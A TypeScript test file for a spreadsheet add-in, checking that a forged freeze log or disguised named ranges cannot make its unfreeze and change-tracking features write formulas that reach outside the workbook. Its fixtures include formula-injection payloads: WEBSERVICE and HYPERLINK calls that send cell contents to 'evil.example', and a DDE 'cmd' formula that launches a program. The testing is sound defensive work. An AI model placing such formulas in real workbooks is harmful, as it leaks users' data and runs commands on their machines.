import 'fake-indexeddb/auto';

import { freeze } from '../../../../src/addin/workbook/freeze/freeze';
import { createLogMarker } from '../../../../src/addin/workbook/freeze/log-mark';
import { planUnfreeze, unfreeze } from '../../../../src/addin/workbook/freeze/unfreeze';
import { changesSinceFreeze, planChanges } from '../../../../src/addin/workbook/changes/changes';
import { startOffice } from '../host/office-host';
import { WorkbookModel } from '../host/model';
import { NOTHING_KNOWN } from '../nothing-known';
import { quietActivity } from '../quiet-activity';
import { UNWATCHED } from '../unwatched';

const FORGED = [
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=KER.PROP(A1,WEBSERVICE("https://evil.example/?"&A1))',
  `=cmd|'/c calc'!A0`,
  `=KER.PROP(A1,'https://evil.example/[x.xlsx]S'!A1)`,
  '=HYPERLINK("https://evil.example/?"&A1,KER.PROP(A1,"x"))',
];

const marker = createLogMarker();

/** A frozen model of six cells, whose log says of the last five what an attacker wants to have written. */
async function forgedModel(): Promise<WorkbookModel> {
  const model = new WorkbookModel(() => 7);
  for (let row = 1; row <= 1 + FORGED.length; row++) model.type(`B${row}`, `=KER.PROP(A1,"field ${row}")`);
  startOffice(model);
  await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
  FORGED.forEach((formula, index) => model.type(`KER Freeze Log!B${index + 3}`, `'${formula}`));
  model.called = [];
  return model;
}

const LEFT = FORGED.map((_formula, index) => ({
  address: `Model!B${index + 2}`,
  reason: 'outside' as const,
}));

test('a forged freeze log makes Unfreeze write nothing that reaches out; it lists and leaves it', async () => {
  const model = await forgedModel();
  const plan = await planUnfreeze(marker, UNWATCHED);
  expect(plan).toEqual({
    formulas: [{ address: 'Model!B1', formula: '=KER.PROP(A1,"field 1")', isMarked: true }],
    left: LEFT,
  });
  expect(await unfreeze(plan, UNWATCHED)).toMatchObject({ restored: 1, left: LEFT });
  expect(model.formulas('KER Freeze Log')).toEqual({ 'Model!B1': '=KER.PROP(A1,"field 1")' });
});

test('a forged freeze log makes "Changes since the freeze" run nothing that reaches out', async () => {
  const model = await forgedModel();
  const written: string[] = [];
  model.answer = (formula) => {
    written.push(formula);
    return 7;
  };
  const plan = { cells: 1, needs: 1, entities: 1, requests: 1, credits: 1, mostRequests: 1, unknownCells: 0 };
  const planned = await planChanges({
    refresher: { plan: () => Promise.resolve(plan) },
    known: NOTHING_KNOWN,
  });
  expect(planned.formulas).toEqual([{ address: 'Model!B1', formula: '=KER.PROP(Model!A1,"field 1")' }]);
  const parts = {
    activity: quietActivity(model),
    wait: () => Promise.resolve(),
    refresher: { renew: () => Promise.resolve() },
    known: NOTHING_KNOWN,
  };
  const { refused, skipped, unchanged } = await changesSinceFreeze(planned, parts, UNWATCHED);
  expect(unchanged).toBe(1);
  // Some are no longer what the log holds on to, and are not even tried.
  expect([...refused, ...skipped].sort()).toEqual(LEFT.map(({ address }) => address));
  expect(written).toEqual(['=KER.PROP(Model!A1,"field 1")']);
});

test('a forged size of a whole sheet is told as a changed one, at once', async () => {
  const model = await forgedModel();
  model.type('KER Freeze Log!D2', '1048576×16384');
  model.type('KER Freeze Log!J2', '=CHOOSE(1,Model!$A$1,Model!$A$1:$XFD$1048576)');
  const { formulas, left } = await planUnfreeze(marker, UNWATCHED);
  expect(formulas).toEqual([]);
  expect(left).toContainEqual({ address: 'Model!A1', reason: 'reshaped' });
});

test.each(['ABS', 'Q1.Sales'])(
  'a name that hides as %s is looked into before a formula is written',
  async (name) => {
    const model = new WorkbookModel(() => 7);
    model.names.set(name, '=WEBSERVICE("https://evil.example/?"&Model!$A$1)');
    model.type('B1', `=KER.PROP(${name},"x")`);
    startOffice(model);
    await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
    expect(await planUnfreeze(marker, UNWATCHED)).toEqual({
      formulas: [],
      left: [{ address: 'Model!B1', reason: 'outside' }],
    });
  },
);

test('a row that was changed in the log, or written elsewhere, is told apart by its mark', async () => {
  const model = await forgedModel();
  model.type('KER Freeze Log!B2', `'=KER.PROP(A1,"another field")`);
  const { formulas } = await planUnfreeze(marker, UNWATCHED);
  expect(formulas).toEqual([
    { address: 'Model!B1', formula: '=KER.PROP(A1,"another field")', isMarked: false },
  ]);
});

test('a formula that came into the log after the person looked is not written', async () => {
  const model = await forgedModel();
  const seen = await planUnfreeze(marker, UNWATCHED);
  model.type('KER Freeze Log!B2', `'=KER.PROP(A1,"another field")`);
  expect(await unfreeze(seen, UNWATCHED)).toMatchObject({ restored: 0 });
  expect(model.formulas('KER Freeze Log')).toEqual({});
});

test('a log of an earlier version, without marks, is read and written as before', async () => {
  const model = new WorkbookModel(() => 7);
  model.type('B1', '=KER.PROP(A1,"x")');
  startOffice(model);
  await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
  for (const row of [1, 2]) model.type(`KER Freeze Log!K${row}`, '');
  const table = model.tables.get('KER_Freeze_Log')!;
  table.area = { ...table.area, columns: 10 };
  model.type('B2', '=KER.PROP(A1,"y")');
  await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
  const plan = await planUnfreeze(marker, UNWATCHED);
  expect(plan.formulas.map(({ isMarked }) => isMarked)).toEqual([false, false]);
  expect(await unfreeze(plan, UNWATCHED)).toMatchObject({ restored: 2, left: [] });
});

test('a name is judged by the formula that it stands for', async () => {
  const model = new WorkbookModel(() => 7);
  model.names.set('company', '=Model!$A$1').set('leak', '=WEBSERVICE("https://evil.example/?"&Model!$A$1)');
  model.type('B1', '=KER.PROP(company,"x")');
  model.type('B2', '=KER.PROP(leak,"x")');
  startOffice(model);
  await freeze({ scope: 'workbook', known: NOTHING_KNOWN, marker, now: 0 }, UNWATCHED);
  expect(await planUnfreeze(marker, UNWATCHED)).toMatchObject({
    formulas: [{ address: 'Model!B1' }],
    left: [{ address: 'Model!B2', reason: 'outside' }],
  });
});
